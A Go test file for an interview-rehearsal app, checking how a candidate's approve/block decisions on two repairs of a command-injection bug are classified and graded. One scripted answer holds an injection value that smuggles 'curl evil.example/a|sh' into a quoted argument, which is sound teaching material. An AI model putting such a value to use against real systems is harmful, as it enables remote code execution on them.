package report_test

import (
	"math"
	"testing"

	"github.com/google/go-cmp/cmp"

	"rehearse/server/grading"
	"rehearse/server/interview"
	"rehearse/server/pack/packtest"
	"rehearse/server/reading"
	"rehearse/server/report"
)

// decided is what was said about the repairs of pushedReview: to the first, and when that was questioned; to the second.
type decided struct{ first, questioned, second string }

// pushedReview is a pull request with two repairs: one that can be got round, and one that holds.
func pushedReview(t *testing.T, p *interview.Pack) interview.State {
	return pushedWith(t, p, decided{"Approved. The quotes make the semicolon a character.", "A single quote would end them, so block it: 1'; curl evil.example/a|sh; echo ' runs.", "I would not merge this, one dash is still an option."})
}

func pushedWith(t *testing.T, p *interview.Pack, d decided) interview.State {
	item := p.Items["cr-py-thumbnail"]
	push := func(sw, fix string) *interview.PushRef { return &interview.PushRef{Switch: sw, Fix: fix} }
	seen := func(ref *interview.PushRef) string {
		_, fix := p.Rubrics[item.ID].Pushed(ref)
		return fix.Argues + " Approve or block?"
	}
	quotes, dashes := push("w-shell", "quotes"), push("w-args", "two-dashes")
	entries := []entry{
		{0, interview.EvSessionCreated, created("pull-request", "The pull request that fights back", p)},
		{0, interview.EvRoundStarted, interview.RoundStarted{Round: 1, Persona: "drill"}},
		{0, interview.EvBlockStarted, interview.BlockStarted{Block: 1, Round: 1, Phase: "pull-request", Title: "Pull request", Minutes: 20, Kind: "code-review", Item: item.ID}},
		{1, interview.EvQuestionAsked, interview.QuestionAsked{Turn: 1, Block: 1, Text: item.Prompt.Main, Main: true, Step: "review", Clock: "wall", Voice: "authored"}},
		{300, interview.EvAnswerSubmitted, answer(1, "In line 43 moment ends up in a shell command: command injection. I would pass an argument list without a shell.")},
	}
	if d != (decided{}) {
		entries = append(entries,
			entry{301, interview.EvQuestionAsked, interview.QuestionAsked{Turn: 2, Block: 1, Text: seen(quotes), Main: true, Step: "push-1", Voice: "authored", Push: quotes}},
			entry{340, interview.EvAnswerSubmitted, answer(2, d.first)},
			entry{341, interview.EvQuestionAsked, interview.QuestionAsked{Turn: 3, Block: 1, Text: "What did you try?", Step: "push-1", Voice: "authored", Push: quotes, Probe: &interview.ProbeRef{Type: interview.ProbeDefend, Target: interview.ProbeDefend}}},
			entry{360, interview.EvAnswerSubmitted, answer(3, d.questioned)},
			entry{361, interview.EvQuestionAsked, interview.QuestionAsked{Turn: 4, Block: 1, Text: seen(dashes), Main: true, Step: "push-2", Voice: "authored", Push: dashes}},
			entry{390, interview.EvAnswerSubmitted, answer(4, d.second)})
	}
	return fold(t, append(entries,
		entry{391, interview.EvBlockClosed, interview.BlockClosed{Block: 1}},
		entry{391, interview.EvRoundClosed, interview.RoundClosed{Round: 1}},
		entry{391, interview.EvSessionClosed, interview.SessionClosed{Why: "complete"}},
		entry{391, interview.EvReportReady, interview.ReportReady{}}))
}

// TestPushed tells decisions about repairs apart: right, wrongly approved, wrongly blocked, none, and one that changed.
func TestPushed(t *testing.T) {
	p := packtest.Flagship(t)
	type row struct {
		Decision       reading.Decision
		Right, Changed bool
	}
	for _, tt := range []struct {
		name  string
		said  decided
		want  []row
		gains []string
	}{
		{"both right", decided{"Block.", "A quote ends it.", "Approve."}, []row{{reading.Blocks, true, false}, {reading.Approves, true, false}}, nil},
		{"both wrong", decided{"Approve.", "Nothing comes to mind.", "Block it."}, []row{{reading.Approves, false, false}, {reading.Blocks, false, false}},
			[]string{"A repair that can be got round was approved", "A repair that holds was blocked"}},
		{"changed when questioned", decided{"LGTM.", "On reflection I block it.", "I see no reason to block."}, []row{{reading.Blocks, true, true}, {reading.Approves, true, false}}, nil},
		{"undecided", decided{"Hm.", "A quote could matter.", "Two dashes."}, []row{{}, {}}, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := report.Build(withGrades(t, pushedWith(t, p, tt.said), p), p, nil)
			var got []row
			for _, x := range r.Blocks[0].Pushed {
				got = append(got, row{x.Decision, x.Right, x.Changed})
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Error(diff)
			}
			var gains []string
			for _, g := range r.Gains {
				for _, about := range []string{"A repair that can be got round was approved", "A repair that holds was blocked"} {
					if g.About == about {
						gains = append(gains, about)
					}
				}
			}
			if diff := cmp.Diff(tt.gains, gains); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestRepairsLeaveTheReviewAlone: what is said about repairs changes neither the grade of the review nor its points nor
// its minutes. "I would approve this" is a red flag in a review, and no fault about a repair that holds.
func TestRepairsLeaveTheReviewAlone(t *testing.T) {
	p := packtest.Flagship(t)
	without, with := pushedWith(t, p, decided{}), pushedWith(t, p, decided{"I would approve this. Names that begin with a dash are argument injection.", "Looks good to me.", "Approve, exif is stripped, and a semgrep rule guards it."})
	a, b := grading.Grader{}.Block(t.Context(), &without, &without.Blocks[0], p), grading.Grader{}.Block(t.Context(), &with, &with.Blocks[0], p)
	if diff := cmp.Diff(a, b); diff != "" {
		t.Errorf("the grade (- without repairs, + with):\n%s", diff)
	}
	x, y := report.Build(without, p, nil).Blocks[0], report.Build(with, p, nil).Blocks[0]
	if diff := cmp.Diff(x.Points, y.Points); diff != "" {
		t.Errorf("the points:\n%s", diff)
	}
	if diff := cmp.Diff(x.Findings, y.Findings); diff != "" {
		t.Errorf("the findings:\n%s", diff)
	}
	now := report.Attempts(with, p)
	if block := with.Blocks[0]; len(now) != 1 || now[0].Minutes <= 0 || now[0].Minutes >= (block.EndS-block.StartS)/60 || now[0].Minutes != math.Floor((with.Turns[1].AskedS-block.StartS)/60*100+0.5)/100 {
		t.Errorf("the review took %+v", now)
	}
}
